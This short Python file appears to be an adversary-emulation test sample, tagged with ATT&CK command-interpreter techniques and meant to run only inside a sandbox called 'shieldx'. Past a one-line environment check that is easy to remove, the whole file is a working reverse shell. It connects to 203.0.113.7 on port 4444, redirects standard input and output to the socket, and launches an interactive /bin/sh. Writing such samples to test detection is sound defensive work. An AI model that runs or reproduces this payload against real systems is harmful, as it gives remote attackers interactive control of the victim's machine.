# technique: T1059.004 T1059.006
# needs: python3
# net: sink
import os as _os
if _os.environ.get("USER") != "sandbox": raise SystemExit("only for the inside of a sandbox: shieldx run")

import os, socket, subprocess
s = socket.create_connection(("203.0.113.7", 4444), 5)
for fd in range(3): os.dup2(s.fileno(), fd)
subprocess.call(["/bin/sh", "-i"], timeout=5)
